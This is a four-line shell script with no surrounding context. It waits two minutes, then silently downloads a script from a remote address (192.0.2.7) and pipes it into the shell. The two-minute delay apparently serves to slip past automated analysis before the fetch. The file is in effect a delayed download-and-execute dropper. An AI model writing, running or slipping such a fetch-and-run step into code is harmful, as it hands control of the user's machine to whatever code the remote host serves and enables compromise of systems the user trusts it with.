#!/bin/sh
wait_long() { sleep 120; }
wait_long
curl -s http://192.0.2.7/run.sh | sh
